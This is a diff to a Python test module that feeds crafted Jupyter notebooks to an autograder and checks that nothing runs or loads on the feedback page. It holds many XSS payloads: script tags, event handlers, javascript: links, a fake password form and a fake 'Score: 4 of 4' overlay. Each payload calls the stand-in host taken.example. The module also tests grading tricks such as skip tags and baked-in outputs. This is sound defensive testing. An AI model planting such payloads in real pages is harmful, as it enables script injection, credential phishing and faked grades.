@@ -1,18 +1,20 @@
 """The notebook itself: a file that is not what it should be.
 
-What markup may do on a feedback page (scripts, handlers, links) is not looked at here; these cases
-hold that such a notebook is graded like any other and stops nobody.
+Such a notebook is graded like any other or refused, it stops nobody, and nothing in it runs, loads
+or covers anything up where its feedback is read.
 """
 
+import base64
 import json
+import re
 from collections.abc import Callable
+from html.parser import HTMLParser
 
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
 
-from tests.attacks.harness import FULL, REFUSED, Attack, cell_of, grouped
+from tests.attacks.attack import FULL, REFUSED, Attack, cell_of, grouped
 
-HALF = {"check_neuron_forward": 2.0, "check_linear_forward": 0.0}
 CHECK = "check_linear_forward"
 
 
@@ -119,29 +121,116 @@ def strange_metadata(notebook: NotebookNode) -> None:
     notebook.cells += cells
 
 
-def script(notebook: NotebookNode) -> None:
-    texts = (
-        "<script>document.title = 'proof'</script>",
-        "<img src=x onerror=alert(1)>",
-        "[link](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
-        "<svg onload=alert(1)><script>alert(1)</script></svg>",
-        "</div></div></body></html><iframe src='http://example.com'>",
+MARK = "taken.example"
+"""What stands in every attack on a page; it may stand there as text alone."""
+
+SCRIPTS = (
+    f"<script>fetch('//{MARK}')</script>",
+    f"<ScRiPt src=//{MARK}></script>",
+    f"<img src=x onerror=fetch('//{MARK}')>",
+    f"<details open ontoggle=\"fetch('//{MARK}')\">x</details>",
+    f"<svg onload=fetch('//{MARK}')><script>fetch('//{MARK}')</script></svg>",
+    f"<math><mtext></p><style><img src=x onerror=fetch('//{MARK}')></style></mtext></math>",
+    f"</div></div></body></html><script>fetch('//{MARK}')</script>",
+    f"<noscript><p title='</noscript><img src=x onerror=fetch(\"//{MARK}\")>'></noscript>",
+)
+LINKS = (
+    f"[link](javascript:fetch('//{MARK}'))",
+    f"<a href=\"JaVa&#9;script:fetch('//{MARK}')\">x</a>",
+    f"<a href=' javascript:fetch(`//{MARK}`)'>x</a>",
+    f"<a href='data:text/html,<script>//{MARK}</script>'>x</a>",
+    f"[x]: javascript:fetch('//{MARK}')\n\n[x]",
+)
+LOADS = (
+    f"<iframe src=//{MARK}></iframe>",
+    f"<object data=//{MARK}></object><embed src=//{MARK}>",
+    f"<img src=https://{MARK}/pixel.png>",
+    f"![pixel](https://{MARK}/pixel.png)",
+    f"<link rel=stylesheet href=//{MARK}><style>@import '//{MARK}'</style>",
+    f"<form action=//{MARK}><input name=password><button>Log in</button></form>",
+    f"<meta http-equiv=refresh content='0;url=//{MARK}'><base href=//{MARK}>",
+    f"<div style='position: fixed; inset: 0; background: url(//{MARK})'>Score: 4 of 4</div>",
+)
+
+
+class Page(HTMLParser):
+    """Finds the mark where a browser would follow it."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self._inside = ""
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self._inside = tag if tag in ("script", "style") else ""
+        for name, value in attributes:
+            picture = tag == "img" and (value or "").startswith("data:image/")
+            harmless = picture or name in ("alt", "title")
+            if value and MARK in _unpacked(value) and not harmless:
+                self.found.append(f"{tag} {name}")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._inside = ""
+
+    def handle_data(self, data: str) -> None:
+        if self._inside and MARK in data:
+            self.found.append(self._inside)
+
+
+def _unpacked(value: str) -> str:
+    """An attribute's value, or the page that is packed into it."""
+    packed = re.match("data:.*;base64,(.*)", value, re.DOTALL)
+    return base64.b64decode(packed[1]).decode(errors="replace") if packed else value
+
+
+def runs_and_loads_nothing(page: str) -> str:
+    found = sorted(set(Page(page).found))
+    return f"reached the page: {', '.join(found)}" if found else ""
+
+
+def on_the_page(id: str, tries: str, change: Callable[[NotebookNode], None]) -> Attack:
+    """An attack on whoever opens the feedback page."""
+    return Attack(id, tries, change=change, proves=runs_and_loads_nothing, stock="reached the page")
+
+
+def as_text(*texts: str) -> Callable[[NotebookNode], None]:
+    """Markdown cells."""
+
+    def change(notebook: NotebookNode) -> None:
+        notebook.cells += [new_markdown_cell(text) for text in texts]
+
+    return change
+
+
+def as_output(*texts: str, kind: str = "text/html", about: str = "{}") -> Callable[..., None]:
+    """Cells that display such data."""
+
+    def change(notebook: NotebookNode) -> None:
+        show = "from IPython.display import display\ndisplay"
+        notebook.cells += [
+            new_code_cell(f"{show}({{{kind!r}: {text!r}}}, metadata={about}, raw=True)")
+            for text in texts
+        ]
+
+    return change
+
+
+def svg_attachment(notebook: NotebookNode) -> None:
+    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'><script>'//{MARK}'</script></svg>"
+    data = base64.b64encode(drawing.encode()).decode()
+    cell = new_markdown_cell(
+        f"![x](attachment:x.svg)\n<script src='attachment:x.js'>{MARK}</script>"
     )
-    notebook.cells += [new_markdown_cell(text) for text in texts]
-    notebook.cells += [
-        new_code_cell(f"from IPython.display import *\ndisplay(HTML({text!r}), SVG(data={text!r}))")
-        for text in texts
-    ]
-    notebook.cells.append(new_code_cell("%%javascript\nalert(1)"))
-    notebook.cells.append(new_code_cell("%%html\n<script>alert(1)</script>"))
+    cell["attachments"] = {"x.svg": {"image/svg+xml": data}, "x.js": {"text/javascript": data}}
+    notebook.cells.append(cell)
 
 
 def widgets(notebook: NotebookNode) -> None:
-    state = {"state": {"a": {"model_name": "x", "state": {"value": "<script>"}}}}
+    state = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": MARK}}}}
     notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
-    cell = new_markdown_cell("![x](attachment:x.svg)")
-    cell["attachments"] = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}
-    notebook.cells.append(cell)
+    view = "application/vnd.jupyter.widget-view+json"
+    as_output({"model_id": MARK, "version_major": 2}, kind=view)(notebook)  # type: ignore[arg-type]
 
 
 def title(notebook: NotebookNode) -> None:
@@ -173,7 +262,13 @@ def fields(**changes: object) -> Callable[[str], str]:
 ATTACKS = grouped(
     "notebook",
     [
-        with_("doubled-answer", "An answer's cell twice.", doubled, earns=REFUSED),
+        with_(
+            "doubled-answer",
+            "An answer's cell twice.",
+            doubled,
+            earns=REFUSED,
+            stock="aborted the batch",
+        ),
         with_(
             "doubled-check",
             "A check's cell twice, the second without a check.",
@@ -195,15 +290,46 @@ ATTACKS = grouped(
             earns={"check_neuron_forward": 2.0, "check_linear_forward": 0.0},
         ),
         with_("outputs-baked-in", "Outputs that were there before.", baked),
-        with_("skip-tag", "A tag that has the check skipped.", skipped),
+        with_("skip-tag", "A tag that has the check skipped.", skipped, stock="full marks"),
         with_("all-tags", "Tags that hide, skip and excuse every cell.", tagged),
         with_("another-kernel", "Another language.", another_kernel),
         with_("old-schema", "Metadata of an old version of nbgrader.", old_schema),
         with_("new-schema", "Metadata of a version that does not exist.", new_schema),
         with_("strange-metadata", "Metadata of the wrong types.", strange_metadata),
         with_("reversed", "All cells in reverse, checks before answers.", order, earns=REFUSED),
-        with_("scripts", "Scripts, handlers and links, as text and as outputs.", script),
-        with_("widgets", "Widget states and attachments.", widgets),
+        on_the_page("scripts", "Scripts and handlers in markdown.", as_text(*SCRIPTS)),
+        on_the_page("scripts-in-html", "The same in HTML that is displayed.", as_output(*SCRIPTS)),
+        on_the_page(
+            "scripts-in-markdown",
+            "The same in markdown that is displayed.",
+            as_output(*SCRIPTS, kind="text/markdown"),
+        ),
+        on_the_page("links", "Links that are programs, in markdown.", as_text(*LINKS)),
+        on_the_page("links-in-html", "The same in HTML that is displayed.", as_output(*LINKS)),
+        on_the_page("loads", "Frames, pictures and forms from elsewhere.", as_text(*LOADS)),
+        on_the_page("loads-in-html", "The same in HTML that is displayed.", as_output(*LOADS)),
+        on_the_page(
+            "isolated-html",
+            "HTML in a frame of its own.",
+            as_output(f"<script src=//{MARK}></script>", about="{'text/html': {'isolated': True}}"),
+        ),
+        on_the_page(
+            "javascript",
+            "JavaScript as an output.",
+            as_output(f"fetch('//{MARK}')", kind="application/javascript"),
+        ),
+        on_the_page(
+            "picture-attributes",
+            "A handler in the width of a picture.",
+            as_output(
+                "AAAA",
+                kind="image/png",
+                about=f"{{'image/png': {{'width': '1 onerror=fetch(\"//{MARK}\")'}}}}",
+            ),
+        ),
+        on_the_page("svg", "A drawing with a script.", as_output(*SCRIPTS, kind="image/svg+xml")),
+        with_("widgets", "A widget's state and view.", widgets, proves=runs_and_loads_nothing),
+        on_the_page("attachments", "A drawing and a script as attachments.", svg_attachment),
         with_("template-code", "Template code in the notebook's title.", title),
         with_(
             "deep-quotes",
@@ -279,7 +405,7 @@ ATTACKS = grouped(
             "        super().__init__([X, W, b])\n\n    def forward(self):\n"
             "        X, W, b = (node.value for node in self.inbound_nodes)\n"
             "        self.value = X @ W + b",
-            change=script,
+            change=as_text(*SCRIPTS),
             earns=FULL,
         ),
     ],
